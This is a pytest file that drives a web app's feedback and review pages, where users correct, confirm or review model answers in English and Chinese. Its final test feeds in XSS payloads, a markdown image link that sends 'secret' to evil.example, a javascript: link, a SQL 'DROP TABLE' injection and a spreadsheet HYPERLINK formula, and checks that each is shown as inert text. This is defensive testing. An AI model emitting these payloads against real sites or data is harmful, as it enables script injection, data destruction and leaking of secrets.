"""What a person writes where the task lists no labels, and the second text beside the first."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from tests.deployment.http.demo import DemoVerbs

from chainring.contracts.dataset import Task
from chainring.deployment.http.pages.strings import Strings
from chainring.deployment.http.verbs import ReviewItem, Served

House = tuple[DemoVerbs, str]
OpenPage = Callable[..., Any]
WRITTEN = {"en": ("Your parcel_no is on its way.", "It comes on Friday."),
           "zh": ("您的包裹已在路上。", "周五送到。")}  # fmt: skip
ASKED = {"en": "Where is my parcel?", "zh": "我的包裹到哪里了？"}


def _serve(verbs: DemoVerbs, monkeypatch: pytest.MonkeyPatch, task: Task, output: str) -> None:
    """Let the house answer as a model of another task would."""
    load, answer = verbs.load, verbs._answer

    def answered(text: str, episode: str, author: str) -> Served:
        served = answer(text, episode, author)
        made = replace(served.prediction, label="", output=output, scores={}, passed_on=False)
        verbs._served[made.id] = (made, text)
        return Served(prediction=made)

    monkeypatch.setattr(verbs, "load", lambda: replace(load(), task=task))
    monkeypatch.setattr(verbs, "labels", list)
    monkeypatch.setattr(verbs, "_answer", answered)


def _ask(page: Any, text: str) -> Any:
    page.locator("#text").fill(text)
    page.locator("#text").press("Enter")
    card = page.locator(".answer").first
    card.get_by_text(text).wait_for()
    card.locator("[data-open=correct]").click()
    return card


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_a_written_answer_is_corrected_by_a_text_and_from_no_list(
    house: House, open_page: OpenPage, monkeypatch: pytest.MonkeyPatch, lang: str
) -> None:
    say = Strings("zh" if lang == "zh" else "en")
    served, better = WRITTEN[lang]
    _serve(house[0], monkeypatch, "generation", served)
    card = _ask(open_page(lang=lang), ASKED[lang])
    assert card.locator("h2").inner_text() == served
    assert card.get_by_role("combobox").count() == 0
    field = card.get_by_label(say("correct.text"))
    assert field.input_value() == served
    field.fill("")
    card.get_by_role("button", name=say("correct.learn")).click()
    card.locator(".told", has_text=say("correct.unwritten")).wait_for()
    field.fill(better)
    card.get_by_role("button", name=say("correct.learn")).click()
    card.locator(".told", has_text=say("correct.learnt")).wait_for()
    (stored,) = house[0]._feedback.values()
    assert (stored.kind, stored.value) == ("correction", better)


def test_an_answer_that_is_left_as_it_is_is_confirmed(
    house: House, open_page: OpenPage, monkeypatch: pytest.MonkeyPatch
) -> None:
    _serve(house[0], monkeypatch, "translation", WRITTEN["zh"][0])
    card = _ask(open_page(), ASKED["en"])
    card.get_by_role("button", name="let it learn").click()
    card.locator(".told", has_text="Thank you").wait_for()
    (stored,) = house[0]._feedback.values()
    assert (stored.kind, stored.value) == ("confirmation", WRITTEN["zh"][0])


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_a_number_is_corrected_by_a_number(
    house: House, open_page: OpenPage, monkeypatch: pytest.MonkeyPatch, lang: str
) -> None:
    say = Strings("zh" if lang == "zh" else "en")
    _serve(house[0], monkeypatch, "regression", "3.5")
    card = _ask(open_page(lang=lang), ASKED[lang])
    field = card.get_by_label(say("correct.number"))
    assert field.get_attribute("inputmode") == "decimal"
    field.fill("4")
    card.get_by_role("button", name=say("correct.learn")).click()
    card.locator(".told", has_text=say("correct.learnt")).wait_for()
    (stored,) = house[0]._feedback.values()
    assert stored.value == "4"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_queue_shows_both_texts_of_a_pair(house: House, open_page: OpenPage, lang: str) -> None:
    say = Strings("zh" if lang == "zh" else "en")
    texts = ("Where is my parcel?", "我的包裹到哪里了？")
    item = ReviewItem(id="pair_1", kind="holdout", text=texts[0], answer="same", pair=texts[1])
    house[0]._review = {"pair_1": item}
    card = open_page("/review", lang=lang).locator(".item")
    assert card.locator("blockquote").all_inner_texts() == list(texts)
    assert say("ask.pair") in card.inner_text()


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_a_written_answer_is_reviewed_by_a_text(
    house: House, open_page: OpenPage, monkeypatch: pytest.MonkeyPatch, lang: str
) -> None:
    say = Strings("zh" if lang == "zh" else "en")
    served, better = WRITTEN[lang]
    _serve(house[0], monkeypatch, "generation", served)
    item = ReviewItem(id="text_1", kind="correction", text=ASKED[lang], answer=served)
    house[0]._review = {"text_1": item}
    made: list[tuple[str, str]] = []
    monkeypatch.setattr(
        house[0], "decide", lambda _, decision, value, **__: made.append((decision, value))
    )
    card = open_page("/review", lang=lang).locator(".item")
    assert served in card.inner_text()
    assert card.locator("[data-decision=accept]").inner_text() == say("review.accept_text")
    card.get_by_role("button", name=say("review.change")).click()
    card.get_by_label(say("correct.text")).fill(better)
    card.get_by_role("button", name=say("review.save")).click()
    card.get_by_text(say("review.changed", label=better)).wait_for()
    assert made == [("change", better)]


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_passage_of_an_answer_opens_below_it_and_is_plain_text(
    house: House, open_page: OpenPage, monkeypatch: pytest.MonkeyPatch, lang: str
) -> None:
    say = Strings("zh" if lang == "zh" else "en")
    _serve(house[0], monkeypatch, "question-answering", WRITTEN[lang][1])
    answer, passage = house[0]._answer, f"<b>{WRITTEN[lang][0]}</b>"
    monkeypatch.setattr(
        house[0], "_answer", lambda *asked: replace(answer(*asked), source="rec", passage=passage)
    )
    card = _ask(open_page(lang=lang, width=360), ASKED[lang])
    quote = card.locator("details blockquote")
    assert not quote.is_visible()
    card.get_by_text(say("ask.passage")).press("Enter")
    assert quote.inner_text() == passage
    monkeypatch.setattr(house[0], "_answer", answer)
    card = _ask(open_page(lang=lang), ASKED[lang])
    assert not card.get_by_text(say("ask.passage")).is_visible()


@pytest.mark.parametrize(
    "said",
    [
        "<img src=x onerror=alert(1)> 你好",
        "<script>alert(1)</script>",
        "</template><svg onload=alert(1)>",
        "![a](https://evil.example/?q=secret) [b](javascript:alert(1))",
        "'; DROP TABLE predictions; --",
        '=HYPERLINK("https://evil.example","here")',
    ],
)
def test_what_a_model_writes_is_text_on_every_page_that_shows_it(
    house: House, open_page: OpenPage, monkeypatch: pytest.MonkeyPatch, said: str
) -> None:
    _serve(house[0], monkeypatch, "generation", said)
    page = open_page()
    alerts: list[str] = []

    def dismiss(dialog: Any) -> None:
        alerts.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    card = _ask(page, ASKED["en"])
    assert card.locator("h2").inner_text() == said
    item = ReviewItem(id="item", kind="unsure", text=ASKED["en"], answer=said, proposed=said)
    monkeypatch.setattr(house[0], "review_items", lambda **_: [item])
    why = card.locator("[data-slot=why]").get_attribute("href")
    for path in ("/review", why):
        page.goto(house[1] + path)
        page.wait_for_load_state("networkidle")
        assert (
            page.locator(
                "main img, main svg[onload], main script:not([src], [type='application/json'])"
            ).count()
            == 0
        )
        assert page.locator("main a[href*='evil'], main a[href^='javascript']").count() == 0
        if path == "/review":
            assert said in page.locator("main").inner_text()
    assert alerts == []
